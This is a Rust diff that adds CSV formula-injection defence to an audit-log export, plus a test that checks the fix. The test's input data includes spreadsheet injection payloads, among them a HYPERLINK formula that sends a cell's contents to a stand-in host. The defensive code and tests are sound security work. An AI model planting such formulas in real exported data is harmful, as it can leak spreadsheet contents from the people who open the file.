@@ -62,7 +62,10 @@ impl ExportFile {
             }
             Self::Csv(csv) => {
                 let json: Value = serde_json::from_str(event.get())?;
-                let row = row(&json, event.get());
+                let mut row = row(&json, event.get());
+                for cell in &mut row[..CSV_COLUMNS.len() - 1] {
+                    defuse(cell);
+                }
                 Ok(csv.write_record(row.iter().map(|cell| cell.as_bytes()))?)
             }
         }
@@ -82,6 +85,16 @@ impl ExportFile {
             Self::Ndjson(gzip) => gzip.finish(),
             Self::Csv(csv) => csv.into_inner().map_err(|e| e.into_error())?.finish(),
         }
+    }
+}
+
+/// A cell a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, or a tab or carriage return
+/// before one) is written after an apostrophe, which spreadsheets read as "text" (OWASP's CSV
+/// injection advice): an audit log is opened by auditors, and its cells hold what anyone who
+/// named a bucket or a build wrote. The last column, the event itself, is left exact.
+fn defuse(cell: &mut std::borrow::Cow<'_, str>) {
+    if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        *cell = std::borrow::Cow::Owned(format!("'{cell}"));
     }
 }
 
@@ -209,6 +222,27 @@ mod tests {
         assert_eq!(&row[5], "a, \"quoted\"\nline");
         assert_eq!(&row[8], "a@b.c");
         assert_eq!(&row[12], r#"{"code":7}"#);
+        assert_eq!(&row[13], event.get());
+    }
+
+    #[test]
+    fn cells_a_spreadsheet_would_run_as_formulas_are_text_and_the_event_stays_exact() {
+        let event = raw(
+            r#"{"timestamp":"2026-01-01T00:00:00Z","description":"=HYPERLINK(\"http://x/?\"&A1)","actor":{"principal_id":"+1","type":"-2","user":{"email":"@sum(A1)"}},"bucket":{"id":"\tb","name":"\r=1"},"error":"a = b"}"#,
+        );
+        let mut file = ExportFile::new(ExportFormat::Csv, Vec::new(), true).unwrap();
+        file.write(&event).unwrap();
+        let text = gunzip(&file.finish().unwrap());
+        let row = csv::Reader::from_reader(text.as_bytes())
+            .records()
+            .next()
+            .unwrap()
+            .unwrap();
+        assert_eq!(&row[5], "'=HYPERLINK(\"http://x/?\"&A1)");
+        assert_eq!((&row[6], &row[7], &row[8]), ("'+1", "'-2", "'@sum(A1)"));
+        assert_eq!((&row[10], &row[11]), ("'\tb", "'\r=1"));
+        assert_eq!(&row[0], "2026-01-01T00:00:00Z");
+        assert_eq!(&row[12], "a = b", "only a leading sign counts");
         assert_eq!(&row[13], event.get());
     }
 }
